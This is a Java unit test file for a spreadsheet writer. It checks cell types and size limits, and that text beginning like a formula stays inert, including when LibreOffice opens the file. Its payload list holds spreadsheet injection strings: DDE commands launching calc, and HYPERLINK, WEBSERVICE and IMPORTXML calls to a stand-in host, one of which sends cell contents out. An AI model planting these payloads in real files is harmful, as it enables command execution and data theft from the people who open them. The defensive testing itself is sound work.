package vn.loa.cli.workbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.ReadingOptions;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PageTest {

  private static final List<Page.Column> TWO =
      List.of(new Page.Column("Mã", 10), new Page.Column("Lời", 40));

  private static final String[] OPENINGS = {
    "=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "|", "%", "'=", "\"=", " =", "\t=", "\r\n="
  };

  private static final String[] PAYLOADS = {
    "1+1",
    "cmd|'/C calc'!A0",
    "HYPERLINK(\"http://a.example/?\"&A1;\"x\")",
    "SUM(1;2)",
    "WEBSERVICE(\"http://a.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IMPORTXML(\"http://a.example\",\"//a\")",
    "12",
    "01 tin, bài/tháng",
    "Sở Nội vụ"
  };

  private static byte[] book(List<List<Entry>> rows) throws IOException {
    var timeless = new ByteArrayOutputStream();
    Timeless.write(
        timeless,
        book -> {
          var page = new Page(book, "Thử", TWO);
          rows.forEach(page::row);
          page.finish(1, "&P");
        });
    return timeless.toByteArray();
  }

  private static List<Row> rows(byte[] book) throws IOException {
    try (var read =
        new ReadableWorkbook(new ByteArrayInputStream(book), new ReadingOptions(true, false))) {
      return read.getFirstSheet().read();
    }
  }

  /** Five thousand cells that a careless program would compute. */
  private static List<String> attacks() {
    var dice = new Random(35);
    var attacks = new ArrayList<String>();
    for (int i = 0; i < 5_000; i++) {
      String opening = OPENINGS[dice.nextInt(OPENINGS.length)];
      attacks.add(opening + PAYLOADS[dice.nextInt(PAYLOADS.length)] + " " + i);
    }
    return attacks;
  }

  private static List<List<Entry>> cells(List<String> texts) {
    var rows = new ArrayList<List<Entry>>();
    for (int i = 0; i < texts.size(); i++) {
      rows.add(List.of(Entry.number(i), Entry.text(texts.get(i))));
    }
    return rows;
  }

  @Test
  @DisplayName("numbers are numbers, days are days, words are words, and nothing is empty")
  void types() throws IOException {
    var rows =
        rows(
            book(
                List.of(
                    List.of(
                        Entry.number(new BigDecimal("-89.64")),
                        Entry.day(LocalDate.of(2026, 2, 28))),
                    List.of(new Entry.Share(0.98), Entry.text("05")),
                    List.of(new Entry.Nothing(), Entry.day(LocalDate.of(1889, 1, 2))))));
    assertThat(rows.get(1).getCell(0).getType()).isEqualTo(CellType.NUMBER);
    assertThat(rows.get(1).getCell(0).asNumber()).isEqualByComparingTo("-89.64");
    assertThat(rows.get(1).getCell(1).asDate().toLocalDate()).isEqualTo("2026-02-28");
    assertThat(rows.get(1).getCell(1).getDataFormatString()).isEqualTo("dd/MM/yyyy");
    assertThat(rows.get(2).getCell(0).getDataFormatString()).isEqualTo("0%");
    assertThat(rows.get(2).getCell(1).getType()).isEqualTo(CellType.STRING);
    assertThat(rows.get(2).getCell(1).asString()).isEqualTo("05");
    assertThat(rows.get(3).getOptionalCell(0).map(c -> c.getType()).orElse(CellType.EMPTY))
        .isEqualTo(CellType.EMPTY);
    assertThat(rows.get(3).getCell(1).asString()).isEqualTo("1889-01-02");
  }

  @Test
  @DisplayName("words that begin like a formula are words, whole, and no quote is added")
  void formulas() throws IOException {
    var attacks = attacks();
    var rows = rows(book(cells(attacks)));
    for (int i = 0; i < attacks.size(); i++) {
      var cell = rows.get(i + 1).getCell(1);
      assertThat(cell.getType()).isEqualTo(CellType.STRING);
      assertThat(cell.getFormula()).isNull();
      assertThat(lines(cell.asString())).isEqualTo(lines(attacks.get(i)));
    }
  }

  /** XML readers may make one line break of another. */
  private static String lines(String text) {
    return text.replace("\r\n", "\n").replace('\r', '\n');
  }

  @Test
  @Tag("slow")
  @DisplayName("LibreOffice computes none of them and shows each as it was")
  void office(@TempDir Path folder) throws IOException, InterruptedException {
    assumeTrue(
        Files.isExecutable(Path.of("/usr/bin/soffice")), "LibreOffice Calc is not installed");
    var attacks = attacks();
    var file = Files.write(folder.resolve("a.xlsx"), book(cells(attacks)));
    var office =
        new ProcessBuilder(
                "/usr/bin/soffice",
                "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                "--headless",
                "--convert-to",
                // Tab between cells, every text in quotes, UTF-8, formulas instead of results.
                "csv:Text - txt - csv (StarCalc):9,34,76,1,,0,true,false,true",
                "--outdir",
                folder.toString(),
                file.toString())
            .redirectErrorStream(true)
            .redirectOutput(folder.resolve("log").toFile())
            .start();
    assertThat(office.waitFor(180, TimeUnit.SECONDS)).isTrue();
    String csv = Files.readString(folder.resolve("a.csv"), StandardCharsets.UTF_8);
    for (int i = 0; i < attacks.size(); i++) {
      String cell = "\"" + lines(attacks.get(i)).replace("\"", "\"\"") + "\"";
      assertThat(lines(csv)).contains("\n" + i + "\t" + cell + "\n");
    }
  }

  @Test
  @DisplayName("a cell holds no more than a spreadsheet program takes, and no broken character")
  void limits() throws IOException {
    String big = "x".repeat(31_999) + "\ud83d\ude00".repeat(1000);
    var rows = rows(book(cells(List.of(big, "a\u0001b\ufffec\ud800d"))));
    assertThat(rows.get(1).getCell(1).asString()).hasSize(32_000).endsWith("x…");
    assertThat(rows.get(2).getCell(1).asString()).startsWith("a").endsWith("d");
  }
}
